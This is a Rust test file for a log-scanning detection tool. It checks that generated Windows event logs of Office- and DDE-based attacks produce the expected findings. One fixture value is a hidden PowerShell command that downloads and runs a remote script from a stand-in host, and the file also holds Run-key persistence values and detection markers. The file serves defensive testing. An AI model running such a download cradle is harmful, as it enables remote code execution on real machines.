//! The EVTX checks on the generated logs of `testdata/evtx`: each detection has a positive log
//! whose rows are asserted by value (rule, record number, image, command, key) and a negative
//! log that gives no finding.

use std::sync::OnceLock;

use serde_json::Value;

use crate::util::{Scan, scan, testdata};

/// One scan of the whole `testdata/evtx` folder, shared by the tests.
fn evtx_scan() -> &'static Scan {
    static SCAN: OnceLock<Scan> = OnceLock::new();
    SCAN.get_or_init(|| scan(&[&testdata("evtx")], &[]))
}

/// The finding rows of one log: (rule id, record number, severity).
fn hits(file: &str) -> Vec<(String, u64, String)> {
    finding_rows(file)
        .map(|r| {
            (
                r["rule_id"].as_str().unwrap_or_default().to_owned(),
                r["record_number"].as_u64().unwrap_or_default(),
                r["severity"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn finding_rows(file: &str) -> impl Iterator<Item = &'static Value> {
    let file = file.to_owned();
    evtx_scan()
        .rows
        .iter()
        .filter(move |r| r["source_path"] == file.as_str() && r["severity"] != "info")
}

/// The one row of `file` for `rule` at `record`.
fn row(file: &str, rule: &str, record: u64) -> &'static Value {
    let mut rows: Vec<&Value> = evtx_scan()
        .rows
        .iter()
        .filter(|r| {
            r["source_path"] == file && r["rule_id"] == rule && r["record_number"] == record
        })
        .collect();
    assert_eq!(rows.len(), 1, "{file} {rule} {record}: {rows:?}");
    rows.remove(0)
}

fn hit(rule: &str, record: u64, severity: &str) -> (String, u64, String) {
    (
        format!("ddesweep.eventlog.{rule}"),
        record,
        severity.to_owned(),
    )
}

const SID: &str = "S-1-5-21-1111111111-2222222222-3333333333-1104";
const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

#[test]
fn run_is_clean_and_every_log_is_read() {
    let run = evtx_scan();
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    let positive = run.artifact("positive/sysmon-1-office-child.evtx");
    assert_eq!(positive["kind"], "evtx");
    assert_eq!(positive["status"], "analyzed");
    assert_eq!(positive["eventlog"]["records_read"], 7);
    assert_eq!(positive["eventlog"]["records_failed"], 0);
    // Found by its signature, whatever its name.
    let renamed = run.artifact("positive/renamed-log.dat");
    assert_eq!(renamed["kind"], "evtx");
    assert_eq!(renamed["eventlog"]["records_read"], 7);
}

#[test]
fn office_children_from_sysmon_1() {
    let file = "positive/sysmon-1-office-child.evtx";
    assert_eq!(
        hits(file),
        [
            hit("office_child", 2, "high"),
            hit("office_child", 3, "critical"),
            hit("office_child_user_writable", 4, "high"),
            hit("excel_child_executable", 5, "low"),
            hit("office_child", 6, "high"),
            hit("wmic_process_create", 6, "high"),
            hit("office_child", 7, "high"),
        ]
    );
    let cmd = row(file, "ddesweep.eventlog.office_child", 2);
    assert_eq!(cmd["image"], r"C:\Windows\System32\cmd.exe");
    assert_eq!(cmd["command"], r"C:\Windows\System32\cmd.exe /k calc.exe");
    assert_eq!(cmd["parent_image"], WORD);
    assert_eq!(cmd["parent_process_id"], 4412);
    assert_eq!(cmd["process_id"], 5120);
    assert_eq!(cmd["user"], r"CORP\alice");
    assert_eq!(cmd["channel"], "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(cmd["source_name"], "Microsoft-Windows-Sysmon");
    assert_eq!(cmd["event_identifier"], 1);
    assert_eq!(cmd["record_number"], 2);
    assert_eq!(cmd["computer_name"], "WS-ALICE.corp.example");
    // The host is the machine's short name (one name for the logs' FQDN and the SYSTEM hive).
    assert_eq!(cmd["host"], "WS-ALICE");
    assert_eq!(cmd["timestamp_desc"], "Recorded Time");
    assert_eq!(cmd["data_type"], "ddesweep:eventlog:process_start");
    assert!(cmd["hashes"].as_str().unwrap().contains("SHA256="));
    assert!(cmd["process_guid"].as_str().unwrap().starts_with('{'));
    assert!(
        cmd["xml_string"]
            .as_str()
            .unwrap()
            .contains("<EventID>1</EventID>")
    );
    assert_eq!(
        cmd["message"].as_str().unwrap().split(" [").next(),
        Some(r"WINWORD.EXE started cmd.exe: C:\Windows\System32\cmd.exe /k calc.exe")
    );
    let encoded = row(file, "ddesweep.eventlog.office_child", 3);
    assert_eq!(encoded["markers"], "-enc,hidden,-nop");
    assert!(
        encoded["tag"]
            .as_array()
            .unwrap()
            .contains(&Value::from("critical"))
    );

    // The Office start that opened the document is a context row.
    let open: Vec<&Value> = evtx_scan()
        .rows
        .iter()
        .filter(|r| {
            r["source_path"] == file && r["data_type"] == "ddesweep:eventlog:office_document_open"
        })
        .collect();
    assert_eq!(open.len(), 1, "{open:?}");
    assert_eq!(open[0]["record_number"], 1);
    assert_eq!(
        open[0]["document"],
        r"C:\Users\alice\Downloads\Invoice_2291.docx"
    );
    assert_eq!(open[0]["process_id"], 4412);
    assert_eq!(open[0]["severity"], "info");
}

#[test]
fn equation_editor_from_sysmon_1_and_3() {
    let file = "positive/sysmon-1-eqnedt.evtx";
    assert_eq!(
        hits(file),
        [
            hit("equation_editor_process", 1, "high"),
            hit("equation_editor_child", 2, "critical"),
            hit("equation_editor_child", 3, "critical"),
        ]
    );
    let child = row(file, "ddesweep.eventlog.equation_editor_child", 2);
    assert_eq!(child["image"], r"C:\Users\Public\vbc.exe");
    let cradle = row(file, "ddesweep.eventlog.equation_editor_child", 3);
    assert!(
        cradle["markers"]
            .as_str()
            .unwrap()
            .contains("downloadstring")
    );

    let file = "positive/sysmon-3-eqnedt-network.evtx";
    assert_eq!(hits(file), [hit("equation_editor_network", 1, "critical")]);
    let net = row(file, "ddesweep.eventlog.equation_editor_network", 1);
    assert_eq!(net["destination"], "203.0.113.50:80");
    assert_eq!(net["destination_hostname"], "cdn.bad.example");
    assert_eq!(net["event_identifier"], 3);
}

#[test]
fn office_lookalike() {
    let file = "positive/sysmon-1-lookalike.evtx";
    assert_eq!(
        hits(file),
        [
            hit("office_lookalike", 1, "high"),
            hit("office_child", 2, "high")
        ]
    );
    let fake = r"C:\Users\alice\AppData\Roaming\Microsoft\Office\WINWORD.exe";
    assert_eq!(
        row(file, "ddesweep.eventlog.office_lookalike", 1)["image"],
        fake
    );
    let child = row(file, "ddesweep.eventlog.office_child", 2);
    assert_eq!(child["parent_image"], fake);
    assert!(child["message"].as_str().unwrap().contains("lookalike"));
}

#[test]
fn security_4688_v2_and_v1_parent_recovery() {
    let file = "positive/security-4688-v2.evtx";
    assert_eq!(hits(file), [hit("office_child", 2, "critical")]);
    let cmd = row(file, "ddesweep.eventlog.office_child", 2);
    assert_eq!(cmd["process_id"], 0x1b40);
    assert_eq!(cmd["parent_process_id"], 0x1a2c);
    assert_eq!(cmd["parent_image"], WORD);
    assert_eq!(cmd["channel"], "Security");
    assert_eq!(cmd["event_identifier"], 4688);
    assert_eq!(cmd["logon_id"], "0x3e5a1");

    let file = "positive/security-4688-v1.evtx";
    assert_eq!(hits(file), [hit("office_child", 12, "high")]);
    let cmd = row(file, "ddesweep.eventlog.office_child", 12);
    let excel = r"C:\Program Files\Microsoft Office\Office15\EXCEL.EXE";
    assert_eq!(cmd["parent_image"], excel);
    assert!(
        cmd["parent_command_line"]
            .as_str()
            .unwrap()
            .contains("Payment_Advice.xlsx")
    );
    assert!(
        cmd["message"]
            .as_str()
            .unwrap()
            .contains("earlier 4688 record")
    );
    assert_eq!(
        evtx_scan().artifact(file)["eventlog"]["parents_recovered"],
        1
    );
}

#[test]
fn registry_writes_that_enable_dde() {
    let file = "positive/sysmon-13-dde-registry.evtx";
    assert_eq!(
        hits(file),
        [
            hit("word_allow_dde", 1, "high"),
            hit("word_allow_dde", 2, "high"),
            hit("excel_dde_server_launch", 3, "high"),
            hit("excel_dde_server_lookup", 4, "high"),
            hit("dont_update_links", 5, "medium"),
            hit("equation_editor_kill_bit", 6, "critical"),
            hit("equation_editor_kill_bit", 7, "critical"),
        ]
    );
    let allow = row(file, "ddesweep.eventlog.word_allow_dde", 1);
    assert_eq!(
        allow["registry_key"],
        format!(r"HKU\{SID}\Software\Microsoft\Office\16.0\Word\Security\AllowDDE")
    );
    assert_eq!(allow["value"], "DWORD (0x00000001)");
    assert_eq!(allow["image"], r"C:\Windows\System32\reg.exe");
    assert_eq!(allow["event_identifier"], 13);
    assert_eq!(allow["data_type"], "ddesweep:eventlog:registry_change");
    let deleted = row(file, "ddesweep.eventlog.equation_editor_kill_bit", 7);
    assert_eq!(deleted["event_identifier"], 12);

    let file = "positive/security-4657-dde-registry.evtx";
    assert_eq!(hits(file), [hit("word_allow_dde", 1, "high")]);
    let allow = row(file, "ddesweep.eventlog.word_allow_dde", 1);
    assert_eq!(
        allow["registry_key"],
        format!(r"\REGISTRY\USER\{SID}\Software\Microsoft\Office\16.0\Word\Security\AllowDDE")
    );
    assert_eq!(allow["value"], "2");
    assert_eq!(allow["image"], r"C:\Windows\regedit.exe");
}

#[test]
fn office_module_from_user_writable_folder() {
    let file = "positive/sysmon-7-office-module.evtx";
    assert_eq!(
        hits(file),
        [hit("office_module_user_writable", 1, "medium")]
    );
    let load = row(file, "ddesweep.eventlog.office_module_user_writable", 1);
    assert_eq!(
        load["module"],
        r"C:\Users\alice\AppData\Local\Temp\wwlib.dll"
    );
    assert_eq!(load["image"], WORD);
}

#[test]
fn office_alert_prompts_are_tagged_context() {
    let file = "positive/oalerts-300.evtx";
    let rows: Vec<&Value> = evtx_scan()
        .rows
        .iter()
        .filter(|r| r["source_path"] == file)
        .collect();
    assert_eq!(rows.len(), 2, "{rows:?}");
    for (row, (record, app)) in rows
        .iter()
        .zip([(1, "Microsoft Word"), (2, "Microsoft Excel")])
    {
        assert_eq!(row["record_number"], record);
        assert_eq!(row["severity"], "info");
        assert_eq!(row["data_type"], "ddesweep:eventlog:office_alert");
        assert_eq!(row["channel"], "OAlerts");
        assert_eq!(row["event_identifier"], 300);
        let tags = row["tag"].as_array().unwrap();
        assert!(tags.contains(&Value::from("office_prompt")), "{tags:?}");
        assert!(tags.contains(&Value::from("context")), "{tags:?}");
        assert!(row["message"].as_str().unwrap().starts_with(app));
    }
    assert!(
        rows[1]["message"]
            .as_str()
            .unwrap()
            .contains("Start application 'CMD.EXE'?")
    );
}

#[test]
fn negative_logs_give_no_finding() {
    for file in [
        "negative/sysmon-1-benign.evtx",
        "negative/security-4688-benign.evtx",
        "negative/sysmon-13-benign.evtx",
        "negative/security-4657-benign.evtx",
        "negative/sysmon-3-benign.evtx",
        "negative/sysmon-7-benign.evtx",
        "negative/oalerts-benign.evtx",
    ] {
        let rows: Vec<&Value> = evtx_scan()
            .rows
            .iter()
            .filter(|r| r["source_path"] == file)
            .collect();
        assert!(rows.is_empty(), "{file}: {rows:?}");
        let artifact = evtx_scan().artifact(file);
        assert_eq!(artifact["status"], "analyzed", "{file}");
        assert!(
            artifact["eventlog"]["records_read"].as_u64().unwrap() > 0,
            "{file}"
        );
    }
}

#[test]
fn exclusions_are_counted_not_dropped() {
    let file = "negative/sysmon-1-excluded.evtx";
    // The default profile leaves out Excel starting Office's own binaries; the ERP bridge's
    // cmd.exe is a finding until the environment's profile excludes it.
    assert_eq!(hits(file), [hit("office_child", 2, "high")]);
    let artifact = evtx_scan().artifact(file);
    assert_eq!(
        artifact["eventlog"]["excluded"]["excel-starts-office-binaries"],
        1
    );

    let profile = include_str!("../../profiles/default.toml").to_owned()
        + r#"
[[eventlog.exclusions]]
id = "contoso-erp-dde-bridge"
reason = "Contoso ERP exchanges data with Excel over DDE through its bridge script"
parent_image = ['EXCEL.EXE']
command_line = ['\Contoso ERP\bin\ddebridge.cmd']
"#;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("erp.toml");
    std::fs::write(&path, profile).unwrap();
    let log = testdata("evtx/negative/sysmon-1-excluded.evtx");
    let run = scan(&[&log], &["--profile", path.to_str().unwrap()]);
    assert!(run.rows.is_empty(), "{:?}", run.rows);
    let artifact = &run.manifest["artifacts"][0];
    assert_eq!(
        artifact["eventlog"]["excluded"]["contoso-erp-dde-bridge"],
        1
    );
    assert_eq!(
        artifact["eventlog"]["excluded"]["excel-starts-office-binaries"],
        1
    );
    assert_eq!(run.manifest["totals"]["excluded"], 2);
}

#[test]
fn damaged_logs_cost_only_their_damage() {
    let run = evtx_scan();
    let bad = run.artifact("hostile/bad-chunk.evtx");
    assert_eq!(bad["status"], "analyzed");
    assert_eq!(bad["eventlog"]["chunks_failed"], 1);
    assert_eq!(bad["eventlog"]["chunks_past_header_count"], 1);
    assert_eq!(bad["eventlog"]["records_read"], 120);
    assert!(
        bad["reason"]
            .as_str()
            .unwrap()
            .contains("no ElfChnk signature")
    );

    let cut = run.artifact("hostile/truncated.evtx");
    assert_ne!(cut["status"], "skipped");
    assert!(
        cut["reason"].as_str().unwrap().contains("cut short"),
        "{cut}"
    );
    assert!(cut["eventlog"]["records_read"].as_u64().unwrap() > 0);

    let multi = run.artifact("positive/multi-chunk.evtx");
    assert_eq!(multi["eventlog"]["records_read"], 2000);
    assert_eq!(
        hits("positive/multi-chunk.evtx"),
        [hit("office_child", 1500, "high")]
    );
}

/// The rows of `file`, in record order (then rule), as (data type, rule id, record number).
fn rows_of(file: &str) -> Vec<&'static Value> {
    let mut rows: Vec<&Value> = evtx_scan()
        .rows
        .iter()
        .filter(|r| r["source_path"] == file)
        .collect();
    rows.sort_by_key(|r| {
        (
            r["record_number"].as_u64(),
            r["rule_id"].as_str().map(str::to_owned),
        )
    });
    rows
}

#[test]
fn process_tree_below_a_flagged_office_child() {
    let file = "positive/sysmon-office-tree.evtx";
    let guid = |n: u32| format!("{{b2796a13-4d21-65e5-0000-000000000{n:03x}}}");
    let (b, c, d) = (guid(0xc03), guid(0xc04), guid(0xc05));
    let rows = rows_of(file);
    let summary: Vec<(u64, &str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["record_number"].as_u64().unwrap(),
                r["data_type"].as_str().unwrap(),
                r["rule_id"].as_str().unwrap_or("-"),
                r["severity"].as_str().unwrap(),
            )
        })
        .collect();
    let tree = "ddesweep.eventlog.office_tree_activity";
    let descendant = "ddesweep.eventlog.office_descendant";
    assert_eq!(
        summary,
        [
            (2, "ddesweep:eventlog:attachment_saved", "-", "info"),
            (3, "ddesweep:eventlog:office_document_open", "-", "info"),
            (
                4,
                "ddesweep:eventlog:process_start",
                "ddesweep.eventlog.office_child",
                "critical"
            ),
            (5, "ddesweep:eventlog:process_start", descendant, "critical"),
            (6, "ddesweep:eventlog:dns_query", tree, "medium"),
            (7, "ddesweep:eventlog:network_connection", tree, "medium"),
            (8, "ddesweep:eventlog:file_create", tree, "medium"),
            (9, "ddesweep:eventlog:registry_change", tree, "medium"),
            (10, "ddesweep:eventlog:process_start", descendant, "high"),
        ],
        "noise (records 1, 11, 12) gives no row, and no record gives two"
    );

    let saved = rows[0];
    let attachment = r"C:\Users\dave\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3ZK81PD\Remittance_May.docx";
    assert_eq!(
        saved["message"],
        format!("OUTLOOK.EXE saved e-mail attachment {attachment}")
    );
    assert_eq!(saved["document"], attachment);
    assert_eq!(saved["target_file"], attachment);
    assert_eq!(saved["process_guid"], guid(0xc01));
    assert_eq!(saved["process_id"], 2980);
    assert_eq!(saved["user"], r"CORP\dave");
    let tags = saved["tag"].as_array().unwrap();
    assert!(
        tags.contains(&Value::from("context")) && tags.contains(&Value::from("email_attachment"))
    );

    let ps = rows[3];
    let ps_command = "powershell  -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";
    assert_eq!(
        ps["message"].as_str().unwrap().split(" [").next(),
        Some(
            format!("cmd.exe (started by WINWORD.EXE) started powershell.exe: {ps_command}")
                .as_str()
        )
    );
    assert!(
        ps["message"].as_str().unwrap().contains("(record 4)"),
        "{ps}"
    );
    assert_eq!(ps["command"], ps_command);
    assert_eq!(ps["process_guid"], c);
    assert_eq!(ps["process_id"], 6120);
    assert_eq!(ps["parent_process_guid"], b);
    assert_eq!(ps["parent_process_id"], 5230);
    assert_eq!(ps["parent_image"], r"C:\Windows\System32\cmd.exe");
    assert_eq!(ps["user"], r"CORP\dave");
    assert_eq!(ps["logon_id"], "0x3e5a1");
    assert!(ps["markers"].as_str().unwrap().contains("downloadstring"));
    assert_eq!(ps["channel"], "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(ps["computer_name"], "WS-ALICE.corp.example");
    assert!(
        ps["xml_string"]
            .as_str()
            .unwrap()
            .contains("<EventID>1</EventID>")
    );

    let dns = rows[4];
    assert_eq!(dns["destination_hostname"], "remit-portal.example");
    assert_eq!(dns["value"], "::ffff:203.0.113.77;");
    assert_eq!(dns["process_guid"], c);
    assert_eq!(
        dns["image"],
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    );
    assert_eq!(dns["event_identifier"], 22);
    assert_eq!(dns["logon_id"], "0x3e5a1");
    let net = rows[5];
    assert_eq!(net["destination"], "203.0.113.77:80");
    assert_eq!(net["destination_hostname"], "remit-portal.example");
    assert_eq!(net["process_id"], 6120);
    let created = rows[6];
    let remitsync = r"C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe";
    assert_eq!(created["target_file"], remitsync);
    assert_eq!(created["process_guid"], c);
    assert_eq!(created["user"], r"CORP\dave");
    let run = rows[7];
    assert_eq!(
        run["registry_key"],
        r"HKU\S-1-5-21-1111111111-2222222222-3333333333-1107\Software\Microsoft\Windows\CurrentVersion\Run\RemitSync"
    );
    assert_eq!(run["value"], remitsync);
    assert_eq!(run["process_guid"], c);
    let remit = rows[8];
    assert_eq!(remit["process_guid"], d);
    assert_eq!(remit["parent_process_guid"], c);
    assert_eq!(remit["image"], remitsync);
    assert!(
        remit["message"]
            .as_str()
            .unwrap()
            .starts_with("powershell.exe (started by cmd.exe) started remitsync.exe: ")
    );

    let account = &evtx_scan().artifact(file)["eventlog"];
    assert_eq!(account["tree_roots"], 1);
    assert_eq!(account["tree_descendants"], 2);
    assert_eq!(account["tree_activity_rows"], 4);
    assert_eq!(account["tree_nodes_cut_off"], 0);
    assert_eq!(account["records_read"], 12);
}
